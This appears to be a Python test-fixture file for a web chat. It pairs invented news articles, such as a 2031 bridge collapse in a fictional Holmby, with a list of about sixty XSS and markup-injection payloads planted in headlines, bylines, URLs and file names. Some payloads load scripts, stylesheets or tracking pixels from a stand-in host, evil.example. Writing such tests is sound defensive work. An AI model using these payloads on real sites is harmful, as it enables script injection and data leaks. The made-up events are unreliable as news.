"""Articles for the web chat's tests: a few on invented events, and some that try to run in the page."""

import datetime
import hashlib

from assistant import Article

# What a hostile author would put into a headline, a byline, an address or a text.
PAYLOADS = (
    "<script>window.pwned=1</script>",
    "<script src=//evil.example/x.js></script>",
    "</mark></blockquote><script>window.pwned=1</script>",
    "<img src=x onerror=window.pwned=1>",
    "<img src=https://evil.example/pixel.png>",
    '<svg onload="window.pwned=1">',
    "<svg><script>window.pwned=1</script></svg>",
    "<svg><animate onbegin=window.pwned=1 attributeName=x dur=1s>",
    '<iframe src="javascript:parent.pwned=1"></iframe>',
    '<iframe srcdoc="<script>parent.pwned=1</script>"></iframe>',
    "<object data=javascript:window.pwned=1></object>",
    "<embed src=//evil.example/x.swf>",
    "<details open ontoggle=window.pwned=1>",
    "<video><source onerror=window.pwned=1></video>",
    "<body onload=window.pwned=1>",
    "<input autofocus onfocus=window.pwned=1>",
    "<math><mtext><mglyph><style><img src=x onerror=window.pwned=1>",
    "<noscript><p title='</noscript><img src=x onerror=window.pwned=1>'>",
    "<template><img src=x onerror=window.pwned=1></template>",
    "<style>@import '//evil.example/x.css'; body{display:none}</style>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example/>",
    "<form action=//evil.example><button>Go</button></form>",
    '"><img src=x onerror=window.pwned=1>',
    "' onmouseover='window.pwned=1",
    '" autofocus onfocus="window.pwned=1',
    "<a href=javascript:window.pwned=1>here</a>",
    "<a href='jav&#x09;ascript:window.pwned=1'>here</a>",
    "&lt;script&gt;window.pwned=1&lt;/script&gt;",
    "&#60;img src=x onerror=window.pwned=1&#62;",
    "\\u003cscript\\u003ewindow.pwned=1\\u003c/script\\u003e",
    "[here](javascript:window.pwned=1)",
    "![pixel](https://evil.example/pixel.png)",
    "![pixel][1]\n\n[1]: https://evil.example/pixel.png",
    "[here](https://evil.example 'title')",
    "<https://evil.example>",
    "<javascript:window.pwned=1>",
    "`code` **bold** _italic_ ~~gone~~ # heading",
    "# heading\n\n- list\n\n> quote\n\n| a | b |\n|---|---|\n| 1 | 2 |",
    "```mermaid\ngraph TD; A-->B; click A href 'javascript:window.pwned=1'\n```",
    "```html\n<script>window.pwned=1</script>\n```",
    "$$\\href{javascript:window.pwned=1}{x}$$",
    "$$\\includegraphics{https://evil.example/pixel.png}$$",
    "%%%LATEX_BLOCK_0%%%",
    "${window.pwned=1}",
    "`${window.pwned=1}`",
    "{{constructor.constructor('window.pwned=1')()}}",
    "{{#each value}}{{this}}{{/each}}",
    "<%= window.pwned=1 %>",
    "[1] [2] [99] [cite-1-1]",
    "#cite-1-1",
    "data:text/html,<script>window.pwned=1</script>",
    "javascript:window.pwned=1",
    "vbscript:window.pwned=1",
    "//evil.example/x.js",
    "\u202egnp.pwned\u202c",
    "\x00<script>window.pwned=1</script>",
    "<scr\x00ipt>window.pwned=1</scr\x00ipt>",
    "<\uff53cript>window.pwned=1</\uff53cript>",
    "<!--><script>window.pwned=1</script-->",
    "<![CDATA[<script>window.pwned=1</script>]]>",
)


def article(id_, title, publisher, published, text, url=None, authors=()):
    return Article(
        id=id_,
        text=text,
        title=title,
        publisher=publisher,
        authors=authors,
        published=published and datetime.date.fromisoformat(published),
        url=url,
        language="en",
        path=f"/press/{id_}",
        sha256=hashlib.sha256(text.encode()).hexdigest(),
    )


PRESS = (
    article(
        "bridge.md",
        "Bridge over the Varn collapses",
        "Demo Wire",
        "2031-03-04",
        "The road bridge over the river Varn collapsed on Monday morning.\n\n"
        "Fourteen people died in the collapse of the Varn bridge, the governor of Holmby said. Divers searched "
        "the river until nightfall.\n\nThe bridge had been closed to lorries since January. Its last inspection "
        "found rust on the northern pier.",
        "https://demo-wire.example/varn",
        ("Ada Berg", "Jo Roe"),
    ),
    article(
        "inquiry.md",
        "Engineers blame rust for the Varn disaster",
        "Sample Post",
        "2031-03-19",
        "Rust on the northern pier brought down the Varn bridge, a commission of engineers concluded on "
        "Wednesday.\n\nThe commission was led by Ilse Brandt, who teaches civil engineering in Holmby.",
        "https://sample-post.example/rust",
    ),
    article(
        "ferry.md",
        "Ferry replaces the fallen bridge",
        "Sample Post",
        "2031-04-02",
        "A ferry now carries commuters across the Varn. It makes twenty crossings a day and costs nothing.\n\n"
        "A new bridge is planned for 2034, the ministry of transport said.",
    ),
    article(
        "flood.md",
        "Flood in Ostheim kills six firefighters",
        "Demo Wire",
        "2031-03-28",
        "A flood in Ostheim killed six firefighters on Friday when it took their boat.\n\n"
        "Mayor Paula Lindqvist thanked the volunteers. The water in Ostheim stood two metres high.",
        "https://demo-wire.example/flood",
    ),
    article(
        "harvest.md",
        "Apple harvest in Holmby is the best in a decade",
        "Demo Wire",
        None,
        "Growers in Holmby brought in 40,000 tonnes of apples this autumn, the best harvest in ten years.",
    ),
)


def file_name(number, payload):
    """The name of a file that holds a payload as far as one can, with the other slash, which browsers take too."""
    return f"{number:02d} {''.join(filter(str.isprintable, payload)).replace('/', chr(92))}.md"


HOSTILE = tuple(
    article(
        file_name(number, payload),
        f"Quagmire {number} {payload}",
        f"Gazette {payload}",
        "2031-05-06",
        f"The quagmire of case {number} was reported in Ostheim. {payload} The quagmire report ends there.",
        payload if number % 2 else f"https://gazette.example/{payload}",
        (payload,),
    )
    for number, payload in enumerate(PAYLOADS)
)

# Without a title, an article is called by the name of its file.
UNTITLED = tuple(
    article(
        f"untitled {file_name(number, payload)}",
        None,
        None,
        None,
        f"An untitled leaflet numbered {number} lay in the library of Ostheim until case {number} was heard.",
    )
    for number, payload in enumerate(PAYLOADS)
)
